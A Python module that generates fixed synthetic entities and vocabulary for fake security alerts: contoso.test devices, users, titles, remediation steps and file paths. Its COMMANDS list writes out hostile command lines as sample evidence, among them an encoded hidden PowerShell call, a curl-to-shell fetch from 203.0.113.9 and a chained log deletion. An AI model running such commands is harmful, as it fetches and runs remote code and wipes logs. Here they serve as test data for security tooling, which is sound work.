"""Which words, machines and people do synthetic alerts speak of?

The machines and people are the same for every seed, so that tables of one's own can be joined to them:
ws-0001.contoso.test to ws-0050.contoso.test and srv-0001.contoso.test to srv-0010.contoso.test.
"""

from __future__ import annotations

import random

DOMAIN = "contoso.test"
TENANT = "11111111-2222-3333-4444-555555555555"

_NAMES = [
    "Adele Vance", "Alex Wilber", "Zoë Núñez", "Søren Ångström", "Siobhán O'Brien", "山田 太郎", "محمد علي", "דנה כהן",
    "Łukasz Żółć", "Nguyễn Thị Hương", "Ιωάννα Παπαδοπούλου", "Светлана Иванова", "김민준", "Robin 🦊 Fuchs",
    "Grace Okafor", "João da Silva", "Megan Bowen", "Patti Fernandez", "Lee Gu", "Nestor Wilke",
]
_LOGINS = [
    "adelev", "alexw", "zoen", "sorena", "o'brien", "tyamada", "mali", "dcohen", "lzolc", "nguyenth", "ipapad", "sivanova",
    "mjkim", "rfuchs", "gokafor", "jsilva", "meganb", "pattif", "leeg", "nestorw",
]

TITLES = [
    "Suspicious execution of hidden file", "Possible password spray attack", "Malware '{malware}' was prevented",
    "Suspicious PowerShell command line", "Sign-in from an unfamiliar location", "Email reported by user as phish",
    "Mass download by a single user", "Connection to a command and control server", "Credential dumping tool detected",
    "Unusual number of failed sign-ins", "Messages containing malicious URL removed after delivery",
    "Privileged container was started", "Suspicious access to a storage account", "New inbox forwarding rule",
    "Tamper attempt on security software — blocked", "Possible lateral movement from {host}",
    "Ransomware activity on {host}", "Activité suspecte détectée sur {host}", "不審なログインが検出されました",
    "تسجيل دخول مشبوه", "Verdächtiger Prozess „{malware}“",
    "Suspicious OAuth application 🚨", "Anomalous token use", "Data exfiltration over DNS",
]
SENTENCES = [
    "A process on the device behaved in a way that is seldom seen there.",
    "The activity began shortly after a sign-in from an address that this organization has not seen before.",
    "Similar behavior was part of several recent campaigns, and it often comes before the theft of credentials.",
    "Because the file is signed by an unknown publisher, its reputation could not be established.",
    "The account took part in no such activity during the last thirty days.",
    "No further steps were observed on other devices, although the same file is present on some of them.",
    "Network traffic to the address was blocked after the third attempt.",
    "An attacker might use this to keep access to the device after a restart.",
    "The number of files touched exceeds the usual number of this user by a factor of twelve.",
    "Die Ausführung wurde beendet; weitere Schritte sind möglicherweise nötig.",
    "The message was delivered, opened, and removed eleven minutes later.",
    "Review the timeline (see the evidence) before the incident is closed.",
]
ACTIONS = [
    "Look at the timeline of {host} around the time of the alert, and note related files, addresses and URLs ",
    "Ask {login} whether the activity was intended.",
    "Isolate the device if more than one alert names it.",
    "Reset the password of the account & revoke its sessions.",
    "Run a full scan with current signatures.",
    "Block the sender\ufffds domain and the URLs at the perimeter.",
    "Install the latest updates of operating system, browser and other software that faces the network.",
    "Submit the file to deep analysis.",
]
COMMENTS = ["Looking into it.", "False alarm, the pen test of this week.", "déjà vu… same as last month", "確認しました。",
            "User says \"I clicked nothing\".", "Closed together with the incident.\n\nSee ticket #4711.", "👍", ""]
MALWARE = ["Trickster", "Nightowl", "Emocat", "Qakhen", "LokiFrog", "Wanderlust"]
CATEGORIES = ["InitialAccess", "Execution", "Persistence", "PrivilegeEscalation", "DefenseEvasion", "CredentialAccess",
              "Discovery", "LateralMovement", "Collection", "Exfiltration", "CommandAndControl", "Impact", "Malware"]
TECHNIQUES = ["T1059.001", "T1110.003", "T1564.001", "T1078", "T1566.002", "T1003", "T1486", "T1021.001", "T1071.004"]
PRODUCTS = ["Microsoft Defender for Endpoint", "Microsoft Defender for Office 365", "Microsoft Defender XDR",
            "Microsoft Defender for Identity", "Microsoft Defender for Cloud Apps"]
FILES = [("svchost.exe", "C:\\Windows\\System32"), ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"),
         ("invoice 2026.pdf.exe", "C:\\Users\\Public\\Downloads"), ("naïve-résumé.docm", "C:\\Users\\zoen\\Desktop"),
         ("payload.so", "/tmp/.hidden"), ("請求書.xlsm", "\\\\srv-0001\\share\\経理"), ("rundll32.exe", "C:\\Windows\\SysWOW64")]
COMMANDS = ["powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA",
            "\"rundll32.exe\" C:\\Users\\Public\\x.dll,Start", "/bin/sh -c 'curl -s http://203.0.113.9/a | sh'",
            "cmd.exe /c \"whoami /all > %TEMP%\\o.txt\" & del /q \"C:\\a b\\*.log\""]
HOSTS_OUTSIDE = ["updates.example", "login-contoso.example", "cdn.xn--bcher-kva.example", "a.b.c.d.example",
                 "files.example"]
WORDS = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hôtel", "índia", "juliett", "kilo", "limα"]


def guid(rng: random.Random) -> str:
    text = f"{rng.getrandbits(128):032x}"
    return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"


def hexadecimal(rng: random.Random, digits: int) -> str:
    return f"{rng.getrandbits(4 * digits):0{digits}x}"


def _device(name: str, number: int) -> dict:
    """The properties of deviceEvidence that belong to the machine and stay the same from alert to alert."""
    rng = random.Random(f"device {name}")
    server = name.startswith("srv")
    return {
        "mdeDeviceId": hexadecimal(rng, 40), "azureAdDeviceId": None if server else guid(rng),
        "deviceDnsName": f"{name}.{DOMAIN}", "hostName": name, "ntDomain": "CONTOSO", "dnsDomain": DOMAIN,
        "osPlatform": rng.choice(["WindowsServer2022", "Linux"] if server else ["Windows11", "Windows10", "macOS"]),
        "osBuild": rng.choice([19045, 22631, 26100]), "version": rng.choice(["22H2", "23H2", "24H2", "Other"]),
        "lastIpAddress": f"10.{int(server)}.{number // 250}.{number % 250 + 1}",
        "lastExternalIpAddress": f"198.51.100.{number % 250 + 1}",
    }


def _person(login: str, name: str, number: int) -> dict:
    rng = random.Random(f"person {login}")
    return {
        "accountName": login, "domainName": "CONTOSO",
        "userSid": f"S-1-5-21-1004336348-1177238915-682003330-{1100 + number}",
        "azureAdUserId": guid(rng), "userPrincipalName": f"{login}@{DOMAIN}", "displayName": name,
        "activeDirectoryObjectGuid": guid(rng), "tenantId": TENANT,
    }


DEVICES = [_device(f"ws-{n:04}", n) for n in range(1, 51)] + [_device(f"srv-{n:04}", n) for n in range(1, 11)]
PEOPLE = [_person(login, name, number) for number, (login, name) in enumerate(zip(_LOGINS, _NAMES))]
